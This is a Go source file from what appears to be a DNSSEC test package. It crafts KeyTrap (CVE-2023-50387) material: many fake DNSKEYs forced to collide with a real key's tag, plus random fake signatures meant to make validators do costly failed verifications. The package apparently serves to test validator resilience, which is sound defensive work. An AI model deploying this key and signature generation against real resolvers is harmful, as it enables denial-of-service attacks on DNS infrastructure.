package dnssectest

import (
	"crypto/rand"
	"encoding/base64"
	"errors"
	"fmt"

	"github.com/miekg/dns"

	"github.com/mxclient/mxclient/internal/dnscrypto"
)

// reservedFlags are the DNSKEY flag bits that RFC 4034 §2.1.1 reserves: they
// must be ignored on receipt. Everything but ZONE, REVOKE and SEP.
const reservedFlags = 0xFFFF &^ (dns.ZONE | dns.REVOKE | dns.SEP)

// keyTrap is the material of the KeyTrap fault (CVE-2023-50387): crafted
// DNSKEYs that share the key tag of one real key, and the size of the
// random signatures that go with them.
type keyTrap struct {
	keys    []dns.RR
	sigSize int
}

// newKeyTrap crafts count DNSKEYs of target's algorithm with target's key
// tag. None of them verifies anything:
//
//   - For RSA the modulus is random (odd, full length) with one 16-bit word
//     chosen to reach the key tag. It decodes like any RSA key, so every
//     verification attempt costs a full modular exponentiation.
//   - For ECDSA and EdDSA the key is a freshly generated public key whose
//     private half is thrown away, and reserved flag bits, which validators
//     must ignore, steer the key tag.
func newKeyTrap(target *dns.DNSKEY, count int) (*keyTrap, error) {
	if isRSA(target.Algorithm) {
		return rsaKeyTrap(target, count)
	}
	return flagKeyTrap(target, count)
}

func rsaKeyTrap(target *dns.DNSKEY, count int) (*keyTrap, error) {
	raw, err := base64.StdEncoding.DecodeString(target.PublicKey)
	if err != nil || len(raw) < 8 {
		return nil, errors.New("crafting KeyTrap keys: malformed RSA key")
	}
	explen, off := int(raw[0]), 1
	if explen == 0 {
		explen, off = int(raw[1])<<8|int(raw[2]), 3
	}
	size := len(raw) - off - explen
	want := target.KeyTag()
	trap := &keyTrap{sigSize: size}
	for len(trap.keys) < count {
		modulus := make([]byte, size)
		rand.Read(modulus)
		modulus[0] |= 0x80
		modulus[size-1] |= 1
		// Exponent 65537 takes four octets (length, then three), so the
		// modulus starts at RDATA offset 8 and its octets 2 and 3 form one
		// 16-bit word of the key-tag sum (RFC 4034 Appendix B).
		key := append([]byte{3, 1, 0, 1}, modulus...)
		key[4+2], key[4+3] = 0, 0
		k := newDNSKEY(target, target.Flags, key)
		base := keyTagSum(k, key)
		for w := 0; w <= 0xFFFF; w++ {
			if foldKeyTag(base+w) == want {
				key[4+2], key[4+3] = byte(w>>8), byte(w)
				k.PublicKey = base64.StdEncoding.EncodeToString(key)
				trap.keys = append(trap.keys, k)
				break
			}
		}
	}
	return trap, nil
}

func flagKeyTrap(target *dns.DNSKEY, count int) (*keyTrap, error) {
	want := target.KeyTag()
	trap := &keyTrap{sigSize: signatureSize(target.Algorithm)}
	// About one generated key in 16 can reach the tag through the 12
	// reserved flag bits, so this bound is never reached in practice.
	for attempt := 0; len(trap.keys) < count; attempt++ {
		if attempt > 1000*count {
			return nil, errors.New("crafting KeyTrap keys: no key reached the key tag")
		}
		_, public, err := dnscrypto.GenerateKey(target.Algorithm, 0)
		if err != nil {
			return nil, fmt.Errorf("crafting KeyTrap keys: %w", err)
		}
		key, _ := base64.StdEncoding.DecodeString(public)
		k := newDNSKEY(target, target.Flags, key)
		base := keyTagSum(k, key)
		// The reserved bits are disjoint from the target's flags, so
		// setting them adds their value to the flags word of the sum.
		for extra := reservedFlags; ; extra = (extra - 1) & reservedFlags {
			if foldKeyTag(base+extra) == want {
				k.Flags |= uint16(extra)
				trap.keys = append(trap.keys, k)
				break
			}
			if extra == 0 {
				break
			}
		}
	}
	return trap, nil
}

func newDNSKEY(like *dns.DNSKEY, flags uint16, key []byte) *dns.DNSKEY {
	return &dns.DNSKEY{
		Hdr:       like.Hdr,
		Flags:     flags,
		Protocol:  like.Protocol,
		Algorithm: like.Algorithm,
		PublicKey: base64.StdEncoding.EncodeToString(key),
	}
}

// keyTagSum returns the key-tag sum of RFC 4034 Appendix B over the RDATA
// of k with public key key, before the carry is folded in.
func keyTagSum(k *dns.DNSKEY, key []byte) int {
	rdata := []byte{byte(k.Flags >> 8), byte(k.Flags), k.Protocol, k.Algorithm}
	rdata = append(rdata, key...)
	sum := 0
	for i, b := range rdata {
		if i&1 == 0 {
			sum += int(b) << 8
		} else {
			sum += int(b)
		}
	}
	return sum
}

func foldKeyTag(sum int) uint16 {
	return uint16(sum + (sum>>16)&0xFFFF)
}

// signatureSize returns the length in octets of a signature of a non-RSA
// algorithm (RFC 6605, RFC 8080).
func signatureSize(alg uint8) int {
	switch alg {
	case dns.ECDSAP384SHA384:
		return 96
	case dns.ED448:
		return 114
	}
	return 64
}

// fakeSignatures returns count copies of sig with random signatures of the
// right length, which no key verifies.
func (t *keyTrap) fakeSignatures(sig *dns.RRSIG, count int) []dns.RR {
	fakes := make([]dns.RR, 0, count)
	for range count {
		fake := *sig
		b := make([]byte, t.sigSize)
		rand.Read(b)
		fake.Signature = base64.StdEncoding.EncodeToString(b)
		fakes = append(fakes, &fake)
	}
	return fakes
}
